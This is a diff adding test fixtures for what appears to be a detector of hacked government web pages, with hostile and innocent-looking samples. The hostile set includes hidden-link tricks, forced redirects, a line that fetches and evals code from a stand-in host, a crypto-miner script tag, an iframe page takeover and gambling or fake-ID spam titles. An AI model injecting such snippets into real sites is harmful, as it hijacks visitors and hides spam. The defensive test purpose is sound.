@@ -153,3 +153,76 @@ def innocent() -> Iterator[Hacked]:
     for name, title in titles.items():
         text = title.split("_", maxsplit=1)[0]
         yield Hacked(name, title=title, body=f"<h2>{text}</h2><p>{text}，现予公布。</p>")
+
+
+def later_bad() -> Iterator[Hacked]:
+    """Written when the families above were mended, before any of these was tried."""
+    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
+    ways = {
+        "styled by a query": f'<div id="c1">{_SHOPS}</div><script>document.querySelector("#c1").style.cssText="display:none"</script>',
+        "written box off the screen": f"<script>document.writeln('<div style=\"position:absolute;left:-9999px\">')</script>{_FENCE}<script>document.writeln('</div>')</script>",
+        "hidden through a name": f"<div id='c2'>{_BET}</div><script>var box=document.getElementById('c2');box.style.display='none';</script>",
+        "emptied": f"<div id='c3'>{_BET}</div><script>document.getElementById('c3').innerHTML='';</script>",
+        "taken out by jquery": f"<div id='c4'>{_BET}</div><script>$(function(){{$('#c4').remove();}})</script>",
+        "computed above the page": f"<div style='position:absolute;top:expression(0-999)'>{_FENCE}</div>",
+        "box without sides": f"<div style='height:0px;width:0px;overflow:hidden'>{_SHOPS}</div>",
+    }
+    for name, body in ways.items():
+        yield Hacked(name, hidden, body=body)
+    leads = {
+        "plain address": f"<script>location='{_AWAY}'</script>",
+        "form by its id": f"<form id='g1' action='{_AWAY}'></form><script>document.getElementById('g1').submit();</script>",
+        "link by jquery": f"<a id='g2' href='{_AWAY}'>.</a><script>$('#g2')[0].click()</script>",
+        "named address opened on top": f"<script>var u='{_AWAY}';window.open(u,'_top')</script>",
+        "phones by a word": f"<script>if(navigator.userAgent.indexOf('Mobile')>-1)location.replace('{_AWAY}')</script>",
+        "document after three seconds": f"<script>setTimeout(function(){{document.location.href='{_AWAY}'}},3000)</script>",
+    }
+    for name, body in leads.items():
+        yield Hacked(name, away, body=body)
+    runs = {
+        "got and run": "<script>$.get('https://api.kzt.example/z',function(d){eval(d)})</script>",
+        "asked for and run": "<script>var x=new XMLHttpRequest();x.open('GET','https://api.kzt.example/z');x.onload=function(){eval(x.responseText)};x.send()</script>",
+        "digger": "<script src='https://minero.cc/lib/minero.min.js' async></script>",
+        "frame instead of the page": '<script>document.body.innerHTML=\'<iframe src="https://zhan.example:8443/" style="position:fixed;top:0;left:0;width:100%;height:100%"></iframe>\'</script>',
+    }
+    for name, body in runs.items():
+        yield Hacked(name, script, body=body)
+    for name, title in {
+        "loved games": "爱游戏(ayx)中国官方网站-登录入口",
+        "happy fish": "乐鱼(中国)leyu·官方网站",
+        "bought balls": "欧洲杯买球app排行榜-青田县人民政府",
+        "subtitles": "精品久久久久无码中文字幕在线播放",
+        "papers": "办假证联系电话_代办各类证件_青田县",
+        "pools": "Toto Macau 4D - Bandar Togel Online Resmi",
+    }.items():
+        yield Hacked(name, spam, title=title)
+
+
+def later_innocent() -> Iterator[Hacked]:
+    pages = {
+        "loading hidden through a name": f"<div id='d1'>加载中{_PARTNER}</div><script>var l=document.getElementById('d1');l.style.display='none';</script>",
+        "panel that opens again": f"<div id='d2'>{_PARTNER}{_OWN}</div><script>var p=document.getElementById('d2');p.style.display='none';function t(){{p.style.display='block'}}</script>",
+        "own address": "<script>location='/index.html'</script>",
+        "own tab started": "<a id='t1' href='/zwgk/'>政务公开</a><script>$('#t1')[0].click()</script>",
+        "own counter run": "<script>$.get('/hits.php',function(d){eval(d)})</script>",
+        "own words in the body": "<script>document.getElementById('x')&&(document.body.innerHTML+='<div style=\"position:fixed;top:0;width:100%;height:100%\">系统维护</div>')</script>",
+        "library put in": "<script>var s=document.createElement('script');s.src='https://cdn.bootcdn.net/ajax/libs/vue.js';document.head.appendChild(s)</script>",
+        "answers of an own service": "<script>var x=new XMLHttpRequest();x.open('GET','/api/w');x.onload=function(){var d=JSON.parse(x.responseText);show(d)};x.send()</script>",
+        "equal columns in a sheet": f"<style>.eq>div{{padding-bottom:5000px;margin-bottom:-5000px}}.eq{{overflow:hidden}}</style><div class='eq'><div>{_PARTNER}{_OWN}</div></div>",
+        "form sent by its button": f"<form id='g3' action='https://www.zjzwfw.gov.cn/s'><input name='q'></form><a onclick=\"document.getElementById('g3').submit()\">查询</a>{_OWN}",
+        "banner closed for good": f"<div id='tb'>{_SHOPS}</div><button onclick=\"document.getElementById('tb').remove()\">关闭</button>",
+    }
+    for name, body in pages.items():
+        yield Hacked(name, body=body)
+    for name, title in {
+        "play and learn": "爱游戏 会学习——幼小衔接活动周_青田县教育局",
+        "resort": "云顶山国际旅游度假区总体规划公示_青田县自然资源局",
+        "tickets": "关于购买足球比赛球票的温馨提示_青田县体育局",
+        "course": "精品课程久久流传——非遗讲堂开讲_青田县文化馆",
+        "false papers": "关于打击制售假证行为的通告_青田县公安局",
+        "films": "中文字幕影片进社区公益放映安排_青田县文广旅体局",
+        "square": "凯发广场招商公告_青田县国资中心",
+        "happy fishing": "乐鱼养殖专业合作社注销公告_青田县市场监管局",
+    }.items():
+        text = title.split("_", maxsplit=1)[0]
+        yield Hacked(name, title=title, body=f"<h2>{text}</h2><p>{text}，现予公布。</p>")
